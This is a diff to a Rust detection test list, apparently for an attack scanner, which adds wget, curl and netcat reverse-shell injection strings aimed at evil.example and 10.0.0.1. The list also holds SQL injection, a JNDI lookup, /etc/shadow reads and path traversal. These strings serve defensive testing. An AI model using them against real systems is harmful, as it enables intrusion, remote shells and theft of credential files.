@@ -22,7 +22,7 @@ const PLACES: [Place; 8] = [
 ];
 
 /// Attacks that must be found whatever text surrounds them.
-const UNHIDEABLE: [(&str, &str); 19] = [
+const UNHIDEABLE: [(&str, &str); 22] = [
     ("sqli", "1' union select username, password from users-- "),
     ("sqli", "x' or '1'='1"),
     ("sqli", "x') or 7=7-- "),
@@ -34,6 +34,9 @@ const UNHIDEABLE: [(&str, &str); 19] = [
     ("rce", "${jndi:ldap://evil.example/a}"),
     ("rce", "; cat /etc/passwd"),
     ("rce", "$(cat /etc/shadow)"),
+    ("rce", "; wget http://evil.example/x.sh"),
+    ("rce", "| nc -e /bin/sh 10.0.0.1 4444"),
+    ("rce", "&& curl http://evil.example/x"),
     ("rce", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="),
     ("ptrav", "../../../../etc/passwd"),
     ("ssi", "<!--#exec cmd=\"id\"-->"),
